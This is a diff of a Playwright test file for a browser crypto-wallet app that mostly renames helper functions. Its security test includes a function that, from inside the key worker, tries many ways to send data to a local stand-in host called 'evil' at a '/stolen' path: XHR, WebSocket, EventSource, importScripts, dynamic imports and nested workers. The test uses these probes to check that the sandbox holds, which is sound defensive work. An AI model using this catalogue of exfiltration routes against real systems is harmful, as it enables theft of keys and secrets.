@@ -13,7 +13,7 @@ import {
   openHomeSettings,
   request,
   viewPhrase,
-  walletWindow,
+  waitForWalletWindow,
 } from './support/dapp.ts'
 import { getFrame } from './support/kit.ts'
 import { urls } from './support/ports.ts'
@@ -65,16 +65,16 @@ test('default: a whole visit violates no policy, shows no field for a secret in 
     const signed = request(page, 'personal_sign', ['0x6869', address])
     await expect(getWallet(page).getByRole('button', { name: 'Unlock & sign' })).toBeVisible()
     expect(await countSecretFields(page)).toBe(0)
-    const window = await walletWindow(page, () => approve(getWallet(page), 'Unlock & sign'))
+    const window = await waitForWalletWindow(page, () => approve(getWallet(page), 'Unlock & sign'))
     await expect(window.locator('.chrome .mark')).toHaveText(mark)
     await enterPassword(window)
     expect(await signed).toMatch(/^0x/)
-    const holds = (text: string) => [...mark, 'oriel/mark'].some((part) => text.includes(part))
-    expect(holds(await readContents(home)), 'the search finds the mark where it is').toBe(true)
-    expect(holds(await readContents(page))).toBe(false)
-    expect(holds(await readContents(getFrame(page)))).toBe(false)
+    const containsMark = (text: string) => [...mark, 'oriel/mark'].some((part) => text.includes(part))
+    expect(containsMark(await readContents(home)), 'the search finds the mark where it is').toBe(true)
+    expect(containsMark(await readContents(page))).toBe(false)
+    expect(containsMark(await readContents(getFrame(page)))).toBe(false)
     expect(await getFrame(page).evaluate(() => localStorage.getItem('oriel/mark'))).toBe(null)
-    expect(received.filter(holds)).toEqual([])
+    expect(received.filter(containsMark)).toEqual([])
   })
 
   await test.step('the site is disconnected', async () => {
@@ -120,7 +120,7 @@ test('behavior: the key worker reaches no network, and loads no code (D2)', asyn
   await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
   const host = `127.0.0.1:${(evil.address() as AddressInfo).port}`
   try {
-    const worker = await keyWorker(page)
+    const worker = await getKeyWorker(page)
     const answered: string[] = []
     page.context().on('response', (one) => answered.push(one.url()))
     const outcomes = await worker.evaluate(tryEveryWayOut, { evil: host, own: urls.frame })
@@ -202,7 +202,7 @@ async function lockInPage(page: Page) {
   expect(await countSecretFields(page)).toBe(0)
 }
 
-async function keyWorker(page: Page): Promise<Worker> {
+async function getKeyWorker(page: Page): Promise<Worker> {
   const find = () => page.workers().find((worker) => worker.url().includes('vault.worker'))
   await expect.poll(() => find()?.url()).toBeTruthy()
   return find() as Worker
@@ -211,7 +211,7 @@ async function keyWorker(page: Page): Promise<Worker> {
 /** Tries every way to send data out of the worker. Runs in the worker, as injected code would. */
 async function tryEveryWayOut({ evil, own }: { evil: string; own: string }) {
   const scope = globalThis as unknown as { importScripts?: (url: string) => void }
-  const opened = (target: EventTarget & { close?: () => void }) =>
+  const waitForOpen = (target: EventTarget & { close?: () => void }) =>
     new Promise((resolve, reject) => {
       target.addEventListener('open', resolve)
       target.addEventListener('message', resolve)
@@ -228,16 +228,16 @@ async function tryEveryWayOut({ evil, own }: { evil: string; own: string }) {
       request.open('GET', `http://${evil}/stolen`, false)
       request.send()
     },
-    socket: () => opened(new WebSocket(`ws://${evil}/stolen`)),
-    'event source': () => opened(new EventSource(`http://${evil}/stolen`)),
+    socket: () => waitForOpen(new WebSocket(`ws://${evil}/stolen`)),
+    'event source': () => waitForOpen(new EventSource(`http://${evil}/stolen`)),
     importScripts: () => scope.importScripts?.(`http://${evil}/stolen`),
     'import elsewhere': () => import(/* @vite-ignore */ `http://${evil}/stolen`),
     'import of data': () => import(/* @vite-ignore */ `data:text/javascript,export default ${1}`),
     'import of a blob': () =>
       import(/* @vite-ignore */ URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
-    'another worker': () => opened(new Worker(`http://${evil}/stolen`)),
+    'another worker': () => waitForOpen(new Worker(`http://${evil}/stolen`)),
     'worker of a blob': () =>
-      opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))),
+      waitForOpen(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))),
     cache: async () => (await caches.open('stolen')).add(`${own}/stolen`),
     eval: () => new Function('return 1')(),
   }
